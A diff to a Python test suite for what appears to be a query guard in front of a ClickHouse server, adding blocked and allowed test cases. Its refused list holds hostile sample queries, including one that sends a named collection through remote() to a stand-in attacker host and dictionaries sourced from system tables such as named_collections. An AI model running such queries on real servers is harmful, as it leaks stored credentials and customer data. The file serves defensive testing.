@@ -46,6 +46,10 @@ REFUSED = {
     " primary key name source(clickhouse(table 'named_collections' db 'system'))"
     " layout(complex_key_hashed()) lifetime(0)",
     "collection in another function": "select * from remote({c}, host = 'attacker.example:9000', table = 'customers')",
+    "another server as a dictionary's source": "create dictionary ch_tests.nc_names (id UInt64) primary key id"
+    " source(clickhouse(host '127.0.0.1' port 9000 table 'pages' db 'ch_tests')) layout(flat()) lifetime(0)",
+    "system tables as a local dictionary's source": "create dictionary ch_tests.nc_names (name String)"
+    " primary key name source(clickhouse(table 'tables' db 'system')) layout(complex_key_hashed()) lifetime(0)",
 }
 
 
@@ -105,8 +109,31 @@ def test_what_only_looks_like_a_collection_is_not_refused(client):
     client.command(f"insert into {TEST_DATABASE}.url (id) values (1)")
     client.command("insert into url (id) values (2)")
     assert client.command(f"select sum(id) from {TEST_DATABASE}.url") == 3
-    client.command("drop table url")
-    client.command("drop table deposits")
+    # projections and indexes named like functions (dbt-clickhouse renders PROJECTION name (...))
+    client.command(
+        "create or replace table pages (id UInt64, url String, file String,"
+        " projection file (select * order by file)) engine = MergeTree order by id"
+    )
+    client.command("alter table pages add projection url (select * order by url)")
+    client.command("alter table pages add index if not exists url (url) type bloom_filter")
+    client.command("insert into pages values (1, 'https://example.com', 'a.csv')")
+    # input() reads only the request's body: not refused
+    client.command("insert into url select * from input('id Int64') format CSV\n4\n")
+    # merge() over the current database, named or not
+    for merged in ["merge(currentDatabase(), '^pages$')", "merge('^pages$')"]:
+        assert client.command(f"select count() from {merged}") == 1, merged
+    assert client.command("select count() from mergeTreeIndex(currentDatabase(), 'pages')") >= 1
+    client.command("create or replace table merged as pages engine = Merge(currentDatabase(), '^pages$')")
+    assert client.command("select count() from merged") == 1
+    # a dictionary over this server's own table, without credentials (COMPATIBILITY.md)
+    client.command(
+        f"create or replace dictionary pages_by_id (id UInt64, url String) primary key id"
+        f" source(clickhouse(table 'pages' db '{TEST_DATABASE}')) layout(flat()) lifetime(0)"
+    )
+    assert client.command("select dictGet('pages_by_id', 'url', toUInt64(1))") == "https://example.com"
+    client.command("drop dictionary pages_by_id")
+    for table in ["merged", "pages", "url", "deposits"]:
+        client.command(f"drop table {table}")
 
 
 def test_the_bi_user_reads_a_string_naming_the_collections_table(clickhouse_server, client):
